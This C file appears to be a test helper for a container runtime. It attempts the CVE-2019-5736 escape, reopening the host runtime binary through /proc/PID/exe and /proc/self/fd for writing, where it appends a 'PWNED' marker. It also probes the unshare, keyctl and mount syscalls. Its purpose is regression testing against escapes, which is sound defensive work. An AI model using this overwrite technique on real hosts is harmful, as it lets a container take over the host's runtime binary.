/*
 * husk-attacker: the in-container half of the attack-class tests. Static, so it
 * runs in any rootfs. Every mode reports one JSON object: exe-grab in a file of the
 * rootfs (its stdout may be a pipe nobody reads any more), syscalls on stdout.
 *
 *   husk-attacker exe-grab TAG OUTFILE
 *       CVE-2019-5736: find the process of this container that the kernel made run the
 *       runtime's binary (entrypoint "#!/proc/self/exe": its command line is
 *       "/proc/self/exe <script> TAG"), take an O_PATH fd of its /proc/PID/exe, say so
 *       by creating OUTFILE.grabbed, then reopen the fd through /proc/self/fd/FD for
 *       writing (retrying while the binary is still being executed: ETXTBSY) and append
 *       a marker. Works whether the runtime is linked statically or not: nothing of ours
 *       runs inside the runtime's process.
 *       {"opened":bool,"errno":N,"wrote":bool,"pid":N}
 *   husk-attacker syscalls
 *       unshare(CLONE_NEWUSER), unshare(CLONE_NEWNS), keyctl(JOIN_SESSION_KEYRING), mount(tmpfs):
 *       {"unshare_user":errno,"unshare_ns":errno,"keyctl":errno,"mount":errno} (0 = it worked)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void write_report(const char* path, const char* text) {
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return;
    (void)!write(fd, text, strlen(text));
    close(fd);
    rename(tmp, path);
}

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000 * 1000};
    nanosleep(&ts, NULL);
}

/* Is /proc/PID/cmdline "/proc/self/exe\0<script>\0TAG..."? */
static int runs_runtime_for(const char* pid, const char* tag) {
    char path[300], buf[512];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    static const char interp[] = "/proc/self/exe";
    if (strcmp(buf, interp) != 0) return 0;
    const char* script = buf + sizeof interp;
    if (script >= buf + n) return 0;
    const char* arg = script + strlen(script) + 1;
    return arg < buf + n && strcmp(arg, tag) == 0;
}

/* Wait (20 s at most) for the process running the runtime binary; O_PATH fd of its exe. */
static int grab_runtime_exe(const char* tag, int* pid_out) {
    for (int i = 0; i < 2000; i++) {
        DIR* d = opendir("/proc");
        if (!d) return -1;
        struct dirent* e;
        while ((e = readdir(d)) != NULL) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            if (!runs_runtime_for(e->d_name, tag)) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                *pid_out = atoi(e->d_name);
                closedir(d);
                return fd;
            }
        }
        closedir(d);
        sleep_ms(10);
    }
    return -1;
}

static int exe_grab(const char* tag, const char* outfile) {
    int pid = 0;
    int fd = grab_runtime_exe(tag, &pid);
    char buf[256];
    if (fd < 0) {
        snprintf(buf, sizeof buf, "{\"grabbed\":false,\"errno\":%d}\n", errno);
        write_report(outfile, buf);
        return 1;
    }
    snprintf(buf, sizeof buf, "%s.grabbed", outfile);
    write_report(buf, "{}\n");
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = -1, err = 0;
    /* The binary stays "text busy" while the process still executes it (the test lets it
     * exit once it saw OUTFILE.grabbed): wait that out, ~20 s at most. */
    for (int i = 0; i < 2000; i++) {
        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        err = w < 0 ? errno : 0;
        if (w >= 0 || err != ETXTBSY) break;
        sleep_ms(10);
    }
    int wrote = 0;
    if (w >= 0) {
        static const char marker[] = "\nPWNED-by-husk-attacker\n";
        wrote = write(w, marker, sizeof marker - 1) == (ssize_t)(sizeof marker - 1);
        if (!wrote) err = errno;
        close(w);
    }
    snprintf(buf, sizeof buf,
             "{\"grabbed\":true,\"opened\":%s,\"errno\":%d,\"wrote\":%s,\"pid\":%d}\n",
             w >= 0 ? "true" : "false", err, wrote ? "true" : "false", pid);
    write_report(outfile, buf);
    return 0;
}

static int err_of(long r) {
    return r == 0 ? 0 : errno;
}

static int syscalls(void) {
    /* Each attempt in its own child, so a success does not change what the next one sees. */
    int results[4];
    for (int i = 0; i < 4; i++) {
        int pfd[2];
        if (pipe(pfd) != 0) return 1;
        pid_t p = fork();
        if (p == 0) {
            int e = 0;
            switch (i) {
                case 0:
                    e = err_of(unshare(CLONE_NEWUSER));
                    break;
                case 1:
                    e = err_of(unshare(CLONE_NEWNS));
                    break;
                case 2:
                    e = syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, 0L) >= 0 ? 0
                                                                                          : errno;
                    break;
                case 3:
                    e = err_of(mount("none", "/tmp", "tmpfs", 0, NULL));
                    break;
            }
            (void)!write(pfd[1], &e, sizeof e);
            _exit(0);
        }
        close(pfd[1]);
        results[i] = -1;
        if (read(pfd[0], &results[i], sizeof results[i]) != sizeof results[i]) results[i] = -1;
        close(pfd[0]);
        while (waitpid(p, NULL, 0) < 0 && errno == EINTR) {
        }
    }
    printf("{\"unshare_user\":%d,\"unshare_ns\":%d,\"keyctl\":%d,\"mount\":%d}\n", results[0],
           results[1], results[2], results[3]);
    return 0;
}

int main(int argc, char** argv) {
    if (argc == 4 && strcmp(argv[1], "exe-grab") == 0) return exe_grab(argv[2], argv[3]);
    if (argc == 2 && strcmp(argv[1], "syscalls") == 0) return syscalls();
    fputs("usage: husk-attacker exe-grab TAG OUTFILE | syscalls\n", stderr);
    return 2;
}
